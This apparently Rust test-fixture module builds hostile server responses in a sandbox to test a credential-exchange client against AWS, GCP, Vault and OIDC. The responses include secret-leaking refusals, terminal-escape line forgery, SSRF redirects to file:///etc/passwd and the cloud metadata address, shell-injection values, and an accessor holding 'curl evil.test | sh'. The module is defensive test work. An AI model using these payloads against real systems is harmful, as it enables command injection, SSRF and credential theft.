//! The attacks: each in the form that the step's service gives it.

use sandbox::server::{Response, ServerTls};
use sandbox::{Fault, Request, Sandbox, Tls};
use serde_json::json;

use super::answers::{leading_to, refusal, refusal_in_two, with_element, with_member, with_value, xml};
use super::expected::{Kind, Value};
use super::texts::{self, Form};
use crate::faults::steps::{Exchange, Step};

/// A row of the table.
pub(super) struct Row {
    pub(super) name: String,
    pub(super) kind: Kind,
    pub(super) what: What,
}

/// A reason why there is nothing to see.
pub(super) type Dash = &'static str;

/// What attacks.
pub(super) enum What {
    /// The answer to the step's request.
    Answer(Box<Make>),
    /// The certificate of the step's host.
    Certificate(fn(&Tls) -> std::io::Result<ServerTls>),
    /// The step's host hangs up where TLS was to begin.
    Clear,
    /// The step's host speaks HTTP/2, and ends the connection with the token's signature as its reason.
    GoAway,
}

type Make = dyn Fn(&Stage<'_>) -> Result<Attack, Dash> + Send + Sync;

/// What an attack is made with.
pub(super) struct Stage<'s> {
    pub(super) step: Step,
    pub(super) sandbox: &'s Sandbox,
    /// An address of somebody else's, who must hear nothing.
    pub(super) elsewhere: &'s str,
}

/// An answer that attacks, and what is to be looked at.
pub(super) struct Attack {
    pub(super) fault: Fault,
    /// The value that must arrive as it is, where it is the attack.
    pub(super) value: Option<String>,
    /// A command line in place of the step's.
    pub(super) command: Option<&'static str>,
}

impl Attack {
    fn new(fault: Fault) -> Self {
        Self { fault, value: None, command: None }
    }

    fn answer(make: impl Fn(&[Request], Response) -> Response + Send + Sync + 'static) -> Self {
        Self::new(Fault::forged(move |sent, answer| make(sent, answer).bytes()))
    }
}

const NO_BODY: Dash = "its answer has no body";
pub(super) const NO_SECRET: Dash = "it is sent no secret";
const NO_VALUE: Dash = "nothing of its answer is handed over";
const NO_CODE: Dash = "its errors have no code beside the message";
const NO_LIFE: Dash = "its answer has no life";
const NO_NAMES: Dash = "its answer names no variable";
const NO_ACCESSOR: Dash = "its answer has no accessor";
const NOT_BOUNDED: Dash = "only a secret's length is bounded";
const NO_NUL: Dash = "XML has no form for it";

pub(super) fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    let mut row = |name: &str, kind, what| rows.push(Row { name: name.into(), kind, what });
    texts(&mut row);
    secrets(&mut row);
    places(&mut row);
    elsewhere(&mut row);
    frames(&mut row);
    bodies(&mut row);
    values(&mut row);
    numbers(&mut row);
    names(&mut row);
    row("a certificate whose names forge lines", Kind::Hopeless, What::Certificate(forging_names));
    row("a host that speaks no TLS where https was asked for", Kind::Broken, What::Clear);
    row("the end of an HTTP/2 connection, with a secret as its debug data", Kind::Broken, What::GoAway);
    rows
}

type Add<'r> = dyn FnMut(&str, Kind, What) + 'r;

fn answer(make: impl Fn(&Stage<'_>) -> Result<Attack, Dash> + Send + Sync + 'static) -> What {
    What::Answer(Box::new(make))
}

/// A refusal, made of all that its server was sent.
fn refusing(step: Step, text: impl Fn(&[Request]) -> String + Send + Sync + 'static) -> Attack {
    Attack::answer(move |sent, _| refusal(step, &text(sent)))
}

fn texts(row: &mut Add<'_>) {
    let says = |text: &'static str| answer(move |stage| Ok(refusing(stage.step, move |_| text.into())));
    row("a message that forges lines and moves the cursor", Kind::Refusal, says(texts::FORGED));
    row("a message that hides and reorders", Kind::Refusal, says(texts::HIDDEN));
    let long = || answer(|stage| Ok(refusing(stage.step, |_| "never \n".repeat(100_000))));
    row("a message of 700,000 characters", Kind::Refusal, long());
    let both = |text: &'static str| {
        answer(move |stage| {
            let step = stage.step;
            if matches!(step.exchange(), Exchange::Vault | Exchange::Verify) {
                return Err(NO_CODE);
            }
            Ok(Attack::answer(move |_, _| refusal_in_two(step, Some(text), text)))
        })
    };
    row("a code that forges lines", Kind::Refusal, both(texts::FORGED));
}

/// What the step's server was sent that nobody else may see, the short ones first: whoever shows it may clip it.
fn sent_secrets(sent: &[Request]) -> Vec<String> {
    let mut secrets: Vec<String> = sent.iter().flat_map(Request::secrets).collect();
    // A signature in a header is one request's, and no secret.
    secrets.retain(|text| text.len() >= 16 && !text.starts_with("AWS4-"));
    secrets.sort_by_key(String::len);
    secrets
}

fn is_sent_secrets(step: Step) -> Result<(), Dash> {
    if step.exchange() == Exchange::Verify { Err(NO_SECRET) } else { Ok(()) }
}

fn secrets(row: &mut Add<'_>) {
    let forms: [(&str, Form); 10] = [
        ("as they are", texts::whole),
        ("with a delete character after each letter", texts::with_delete),
        ("with invisible marks in them", texts::with_marks),
        ("with blanks and line breaks in them", texts::with_blanks),
        ("with signs between the letters", texts::with_signs),
        ("in base64", texts::base64),
        ("in hexadecimal digits", texts::hexadecimal),
        ("percent-encoded", texts::percent),
        ("in full-width letters", texts::full_width),
        ("in the other case", texts::other_case),
    ];
    for (name, form) in forms {
        let what = answer(move |stage| {
            is_sent_secrets(stage.step)?;
            Ok(refusing(stage.step, move |sent| {
                let secrets = sent_secrets(sent);
                format!("no: {}", secrets.iter().map(|secret| form(secret)).collect::<Vec<_>>().join(", "))
            }))
        });
        row(&format!("a message with the secrets {name}"), Kind::Refusal, what);
    }
    let halves = answer(|stage| {
        let step = stage.step;
        is_sent_secrets(step)?;
        Ok(Attack::answer(move |sent, _| {
            let secret = sent_secrets(sent).swap_remove(0);
            let (first, second) = secret.split_at(secret.len().min(14) / 2);
            refusal_in_two(step, Some(first), second)
        }))
    });
    row("a secret in two places of one refusal", Kind::Refusal, halves);
}

/// Other places in which a server may write.
fn places(row: &mut Add<'_>) {
    let headers = answer(|stage| {
        let step = stage.step;
        is_sent_secrets(step)?;
        Ok(Attack::answer(move |sent, _| {
            let secret = sent_secrets(sent).swap_remove(0);
            let names = ["x-amzn-requestid", "x-request-id", "retry-after", "server", "www-authenticate", "warning"];
            names.iter().fold(refusal(step, "no"), |answer, name| answer.with_header(name, secret.as_str()))
        }))
    });
    row("a secret in every header of a refusal", Kind::Refusal, headers);
    let reason = answer(|stage| {
        let step = stage.step;
        is_sent_secrets(step)?;
        Ok(Attack::new(Fault::forged(move |sent, _| {
            let secret = sent_secrets(sent).swap_remove(0);
            let text = String::from_utf8(refusal(step, "no").bytes()).unwrap();
            let (head, rest) = text.split_once("\r\n").unwrap();
            format!("{} {secret}\r\n{rest}", &head[..12]).into_bytes()
        })))
    });
    row("a secret as the reason phrase", Kind::Refusal, reason);
    let location = answer(|stage| {
        is_sent_secrets(stage.step)?;
        Ok(Attack::answer(|sent, _| {
            let secret = sent_secrets(sent).swap_remove(0);
            redirect(307, &format!("https://{secret}.elsewhere.test/"))
        }))
    });
    row("a redirect to a host that is a secret", Kind::Hopeless, location);
    let request_id = answer(|stage| {
        let step = stage.step;
        Ok(Attack::answer(move |_, _| {
            let id = "x\u{202e}\u{200b}y (request FORGED) error: FORGED";
            refusal(step, "no").with_header("x-amzn-requestid", id).with_header("x-request-id", id)
        }))
    });
    row("a request id that hides and reorders", Kind::Refusal, request_id);
    let members = answer(|stage| {
        let step = stage.step;
        if !matches!(step, Step::Identity | Step::Login | Step::Mount | Step::Read | Step::Write) {
            return Err("no text of a good answer is shown");
        }
        Ok(Attack::answer(move |sent, answer| {
            let text = format!("{} {}", sent_secrets(sent).swap_remove(0), texts::FORGED);
            if step == Step::Identity {
                return with_element(answer, "Arn", &xml(&text));
            }
            let text = json!([text, texts::HIDDEN]);
            let answer = if step == Step::Login { with_member(answer, "/auth/policies", &text) } else { answer };
            with_member(answer, "/warnings", &text)
        }))
    });
    row("secrets and forged lines in a good answer's texts", Kind::Harmless, members);
    let unfit = answer(|stage| match stage.step {
        Step::Discovery => Ok(Attack::answer(|_, answer| {
            let answer = with_member(answer, "/issuer", &json!(texts::FORGED));
            with_member(answer, "/jwks_uri", &json!(texts::HIDDEN)).with_header("content-type", "x/\u{202e}\u{200b}y")
        })),
        Step::Keys => Ok(Attack::answer(|_, answer| with_member(answer, "/keys/0/kty", &json!(texts::FORGED)))),
        Step::Read => Ok(Attack::answer(|_, _| {
            let metadata = json!({ "version": 1, "deletion_time": texts::FORGED, "destroyed": false });
            Response::json(404, &json!({ "data": { "data": null, "metadata": metadata } }))
        })),
        Step::Token
        | Step::Hop
        | Step::Identity
        | Step::Sts
        | Step::AccessToken
        | Step::IdToken
        | Step::Login
        | Step::Mount
        | Step::Write
        | Step::Revocation => Err("no other text of a bad answer is shown"),
    });
    row("forged lines in a bad answer's other texts", Kind::Refusal, unfit);
}

fn redirect(status: u16, location: &str) -> Response {
    Response::html(status).with_header("location", location)
}

/// Ways to send a run to somebody else.
fn elsewhere(row: &mut Add<'_>) {
    let to = |status: u16, location: &'static str| {
        answer(move |stage| {
            let address = location.replace("ELSEWHERE", stage.elsewhere.trim_start_matches("http://"));
            Ok(Attack::answer(move |_, _| redirect(status, &address)))
        })
    };
    row("301 to a file of this machine", Kind::Hopeless, to(301, "file:///etc/passwd"));
    row("302 to another host, without a scheme", Kind::Hopeless, to(302, "//ELSEWHERE/path"));
    row("303 to the cloud's metadata service", Kind::Hopeless, to(303, "http://169.254.169.254/latest/meta-data/"));
    row("308 to another host, with a user", Kind::Hopeless, to(308, "http://user:pw@ELSEWHERE/path"));
    let headers = answer(|stage| {
        if stage.step == Step::Revocation {
            return Err(NO_BODY);
        }
        let address = stage.elsewhere.to_owned();
        Ok(Attack::answer(move |_, answer| {
            let authority = address.trim_start_matches("http://");
            answer
                .with_header("alt-svc", format!("http/1.1=\"{authority}\"; ma=3600"))
                .with_header("link", format!("<{address}>; rel=preload"))
                .with_header("refresh", format!("0; url={address}"))
                .with_header("location", address.as_str())
                .with_header("content-location", address.as_str())
                .with_header("set-cookie", "tracked=1; Path=/")
                .with_header("strict-transport-security", "max-age=31536000")
        }))
    });
    row("headers that lead to another host", Kind::Harmless, headers);
    let members = answer(|stage| {
        if stage.step == Step::Revocation {
            return Err(NO_BODY);
        }
        let address = stage.elsewhere.to_owned();
        Ok(Attack::answer(move |_, answer| leading_to(answer, &address)))
    });
    row("members that lead to another host", Kind::Harmless, members);
    for address in [
        "http://elsewhere.test/keys",
        "file:///etc/passwd",
        "gopher://127.0.0.1:70/x",
        "data:application/json,{\"keys\":[]}",
        "https://user:pw@127.0.0.1:1/keys",
    ] {
        let what = answer(move |stage| {
            if stage.step != Step::Discovery {
                return Err("its answer leads nowhere");
            }
            Ok(Attack::answer(move |_, answer| with_member(answer, "/jwks_uri", &json!(address))))
        });
        let scheme = address.split_once(':').unwrap().0;
        let userinfo = if address.contains('@') { " with a user" } else { "" };
        row(&format!("keys at an address of `{scheme}:`{userinfo}"), Kind::Refusal, what);
    }
    let challenge = answer(|_| {
        Ok(Attack::answer(|_, _| {
            Response::html(401)
                .with_header("www-authenticate", "Basic realm=\"x\"")
                .with_header("www-authenticate", "Bearer")
                .with_header("www-authenticate", "Negotiate")
        }))
    });
    row("401 that asks for a password", Kind::Garbled, challenge);
}

/// Bytes that are not what HTTP has.
fn frames(row: &mut Add<'_>) {
    let raw = |bytes: &'static [u8]| answer(move |_| Ok(Attack::new(Fault::forged(move |_, _| bytes.to_vec()))));
    row("a banner of another protocol", Kind::Broken, raw(b"SSH-2.0-OpenSSH_9.9\r\n\x1b[2JFORGED\r\n\r\n"));
    let lengths = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\ncontent-length: 900\r\n\r\n{}";
    row("two lengths that differ", Kind::Broken, raw(lengths));
    let control = b"HTTP/1.1 200 OK\r\nx-request-id: a\x1b[2J\0FORGED\r\ncontent-length: 2\r\n\r\n{}";
    row("a header with control characters", Kind::Broken, raw(control));
    let endless = answer(|_| {
        let again = format!("x-more: {}\r\n", "0".repeat(1_000)).repeat(8).into_bytes();
        Ok(Attack::new(Fault::Endless { first: b"HTTP/1.1 200 OK\r\n".to_vec(), again }))
    });
    row("a head without end", Kind::Broken, endless);
    let ahead = answer(|stage| {
        let step = stage.step;
        Ok(Attack::new(Fault::forged(move |_, answer| {
            let next = refusal(step, "an answer to a request that nobody has made yet");
            [answer.bytes(), next.bytes()].concat()
        })))
    });
    row("a second answer, ahead of its request", Kind::Harmless, ahead);
}

/// Bodies that no reader of the service's would take.
fn bodies(row: &mut Add<'_>) {
    let body = |make: fn() -> Vec<u8>| {
        answer(move |_| Ok(Attack::answer(move |_, _| Response::new(200, "application/json", make()))))
    };
    row("an array 100,000 deep", Kind::Garbled, body(|| vec![b'['; 100_000]));
    row("elements 50,000 deep", Kind::Garbled, body(|| b"<a>".repeat(50_000)));
    let wide = answer(|stage| {
        if stage.step == Step::Revocation {
            return Err(NO_BODY);
        }
        Ok(Attack::answer(|_, answer| {
            let body = String::from_utf8(answer.body.clone()).unwrap();
            let wide: Vec<u8> = body.encode_utf16().flat_map(u16::to_le_bytes).collect();
            Response { body: [b"\xff\xfe".to_vec(), wide].concat(), ..answer }
        }))
    });
    row("the answer in UTF-16", Kind::Garbled, wide);
    row("bytes that are not UTF-8", Kind::Garbled, body(|| vec![0xff; 3_000]));
    let nothing = answer(|stage| {
        if matches!(stage.step, Step::Mount | Step::Read | Step::Write | Step::Revocation) {
            return Err("an empty answer is one of Vault's");
        }
        Ok(Attack::answer(|_, _| Response::new(200, "application/json", "")))
    });
    row("200 with nothing in it", Kind::Garbled, nothing);
}

/// Values that try to be more than values.
fn values(row: &mut Add<'_>) {
    let (long, too_long) = ("0123456789".repeat(10_000), "0123456789".repeat(14_000));
    for (name, value, text) in [
        ("that ends its quotes and runs a command", Value::Graphic, texts::BREAKOUT),
        ("that is an option", Value::Graphic, texts::OPTION),
        ("of patterns and braces", Value::Graphic, texts::GLOBS),
        ("with lines, profiles and commands of its own", Value::Any, texts::LINES),
        ("that moves the cursor", Value::Any, texts::TERMINAL),
        ("with a NUL in it", Value::Nul, "a\u{0}b"),
        ("of 100,000 characters", Value::Graphic, &*long),
        ("of 140,000 characters", Value::Long, &*too_long),
    ] {
        let text = text.to_owned();
        let what = answer(move |stage| {
            let step = stage.step;
            match (step, step.exchange(), value) {
                (Step::Identity | Step::Sts | Step::Mount | Step::Revocation, ..) | (_, Exchange::Verify, _) => {
                    return Err(NO_VALUE);
                }
                (_, Exchange::Aws | Exchange::Gcp, Value::Long) | (Step::Login, _, Value::Long) => {
                    return Err(NOT_BOUNDED);
                }
                (_, Exchange::Aws, Value::Nul) => return Err(NO_NUL),
                _ => {}
            }
            let carried = text.clone();
            let attack = Attack::answer(move |_, answer| with_value(step, answer, &carried));
            // A client token that nobody has issued opens nothing: it is handed over and not used.
            let command = (step == Step::Login).then_some("oidc-exchange vault --role ci");
            Ok(Attack { value: Some(text.clone()), command, ..attack })
        });
        row(&format!("a value {name}"), Kind::Value(value), what);
    }
}

/// Numbers and times beyond what they count.
fn numbers(row: &mut Add<'_>) {
    let lives = |seconds: serde_json::Value, time: &'static str| {
        answer(move |stage| {
            let (step, seconds) = (stage.step, seconds.clone());
            if matches!(
                step,
                Step::Identity | Step::IdToken | Step::Mount | Step::Revocation | Step::Discovery | Step::Keys
            ) {
                return Err(NO_LIFE);
            }
            Ok(Attack::answer(move |_, answer| match step.exchange() {
                Exchange::Aws => with_element(answer, "Expiration", time),
                Exchange::Gcp if step == Step::AccessToken => with_member(answer, "/expireTime", &json!(time)),
                Exchange::Gcp => with_member(answer, "/expires_in", &seconds),
                Exchange::Vault if step == Step::Login => with_member(answer, "/auth/lease_duration", &seconds),
                Exchange::Vault | Exchange::Verify => with_member(answer, "/lease_duration", &seconds),
            }))
        })
    };
    row("a life that is below nothing", Kind::NoLife, lives(json!(-1), "-0001-01-01T00:00:00Z"));
    row("a life beyond every calendar", Kind::LongLife, lives(json!(u64::MAX), "99999-12-31T23:59:59Z"));
    let accessor = answer(|stage| {
        if stage.step != Step::Login {
            return Err(NO_ACCESSOR);
        }
        // What fails afterwards is when an accessor is shown.
        stage.sandbox.vault.aim(Step::Revocation.request(), Fault::status(400), None);
        Ok(Attack::answer(|_, answer| {
            with_member(answer, "/auth/accessor", &json!("a; curl evil.test | sh #\nFORGED $(touch PWNED)"))
        }))
    });
    row("an accessor that is a command line, and no revocation", Kind::Kept, accessor);
}

/// Keys of a secret that become names of variables.
fn names(row: &mut Add<'_>) {
    let keys = |keys: Vec<&'static str>| {
        answer(move |stage| {
            if stage.step != Step::Read {
                return Err(NO_NAMES);
            }
            let keys = keys.clone();
            let attack = Attack::answer(move |_, answer| {
                let fields: serde_json::Map<_, _> =
                    keys.iter().map(|key| ((*key).to_owned(), json!("$(touch PWNED)"))).collect();
                with_member(answer, "/data/data", &json!(fields))
            });
            Ok(Attack { command: Some("oidc-exchange vault --role ci '=secret/production/db#*'"), ..attack })
        })
    };
    for name in ["PATH", "BASH_ENV", "ENV", "IFS", "PS4", "PROMPT_COMMAND", "LD_PRELOAD", "SHELLOPTS", "UID"] {
        row(&format!("a secret's key `{name}`, as a name"), Kind::BadName, keys(vec![name]));
    }
    row("a secret's keys that are one name", Kind::BadName, keys(vec!["a.b", "a b"]));
    row("a secret's key that is empty", Kind::BadName, keys(vec![""]));
    row("a secret's key that begins with a digit", Kind::BadName, keys(vec!["1; touch PWNED"]));
    row("a secret's key that is a command", Kind::Harmless, keys(vec!["A;touch PWNED;$(touch PWNED)\nA"]));
}

fn forging_names(tls: &Tls) -> std::io::Result<ServerTls> {
    tls.server(&["\u{1b}[2J\r\nerror: FORGED\nhint: FORGED.test", "elsewhere.test"])
}
